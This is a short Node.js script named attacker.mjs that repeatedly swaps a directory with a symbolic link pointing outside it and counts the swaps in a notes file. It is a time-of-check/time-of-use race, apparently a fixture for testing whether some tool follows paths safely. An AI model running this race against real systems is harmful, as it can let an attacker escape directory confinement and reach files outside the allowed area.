// Puts a symbolic link to outside in the place of a directory and takes it back, as fast as it can.
// How often the link was there, it notes in a file: a synchronous write reaches the kernel at once.
//   node attacker.mjs DIRECTORY LINK NOTES-FILE DURATION-MS
import { openSync, renameSync, writeSync } from "node:fs";

const [directory, link, notesFile, durationMs] = process.argv.slice(2);
const spare = `${directory}.spare`;
const notes = new DataView(new ArrayBuffer(4));
const notesDescriptor = openSync(notesFile, "w");
const end = performance.now() + Number(durationMs); // nobody may be there any more to end this process

for (let landed = 1; performance.now() < end; landed++) {
  move(directory, spare);
  move(link, directory);
  notes.setUint32(0, landed);
  writeSync(notesDescriptor, notes, 0, 4, 0);
  move(directory, link);
  move(spare, directory);
  // So that the directory stays for as long as the link did: a check must be passed to be cheated.
  writeSync(notesDescriptor, notes, 0, 4, 0);
  if (landed === 1) process.stdout.write("swapping\n");
}

function move(from, to) {
  for (;;) {
    try {
      return renameSync(from, to);
    } catch (error) {
      // Windows does not move a directory in which somebody has a file open
      if (error.code !== "EPERM" && error.code !== "EBUSY" && error.code !== "EACCES") throw error;
      if (performance.now() > end) process.exit(1);
    }
  }
}
